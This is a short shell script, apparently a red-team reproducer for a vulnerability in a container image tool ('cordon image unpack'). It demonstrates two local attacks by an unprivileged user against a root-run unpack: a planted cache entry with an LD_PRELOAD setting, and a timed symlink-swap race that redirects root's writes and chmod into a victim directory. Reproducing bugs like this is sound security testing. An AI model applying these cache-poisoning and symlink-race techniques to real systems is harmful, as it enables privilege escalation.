#!/bin/sh
# Red-team reproducer: 'cordon image unpack' run by root trusts a state
# directory that another user (here nobody, uid 65534) can write.
# Usage: redteam-statedir.sh CORDON LAYOUTS WORK
#   LAYOUTS is what TestRedteamWriteLayouts wrote (RT_OUT); WORK a scratch dir.
set -u
CORDON=$1 L=$2 W=$3
rm -rf "$W"; mkdir -p "$W"; chmod 755 "$W"
as_nobody() { setpriv --reuid=65534 --regid=65534 --clear-groups "$@"; }

# The config digest of the 'small' image (public: it is in the image).
CFG=$("$CORDON" image unpack --state "$W/ref" --json "$L/small" | sed 's/.*"config":"sha256:\([0-9a-f]*\)".*/\1/')
echo "config of small: $CFG"

echo "== A: a planted cache entry is used as the verified image"
mkdir "$W/stA"; chown 65534:65534 "$W/stA"
as_nobody sh -c "
  mkdir -p '$W/stA/images' '$W/stA/evil/rootfs/usr/bin'
  echo pwned > '$W/stA/evil/rootfs/usr/bin/hello'
  printf '{\"type\":\"cordon.image-cache.v1\",\"config\":\"sha256:$CFG\",\"diff_ids\":[],\"env\":[\"LD_PRELOAD=/evil.so\"],\"working_dir\":\"/\",\"user\":\"0\",\"unpacked\":\"x\"}' > '$W/stA/evil/image.json'
  ln -s '$W/stA/evil' '$W/stA/images/sha256-$CFG'"
"$CORDON" image unpack --state "$W/stA" "$L/small"; echo "rc=$?"
echo "usr/bin/hello in the rootfs cordon returned: $(cat "$W/stA/images/sha256-$CFG/rootfs/usr/bin/hello")"

echo "== B: swapping the temporary directory for a symbolic link (root writes and chmods outside)"
mkdir "$W/stB" "$W/victim"; chmod 700 "$W/victim"; chown 65534:65534 "$W/stB"
as_nobody mkdir "$W/stB/images"
echo "victim before: $(stat -c '%A %U' "$W/victim")"
as_nobody sh -c "
  end=\$((\$(date +%s)+20))
  while [ \$(date +%s) -lt \$end ]; do
    for t in '$W/stB/images'/.unpack-*; do
      [ -d \"\$t\" ] && [ ! -L \"\$t\" ] || continue
      mv \"\$t\" \"\$t.stolen\" && ln -s '$W/victim' \"\$t\" && echo \"swapped \$t\" && exit 0
    done
  done; echo 'no swap'" &
sleep 0.2
"$CORDON" image unpack --state "$W/stB" "$L/slow"; echo "rc=$?"
wait
echo "victim after: $(stat -c '%A %U' "$W/victim")"; ls -la "$W/victim"
ls -la "$W/stB/images"
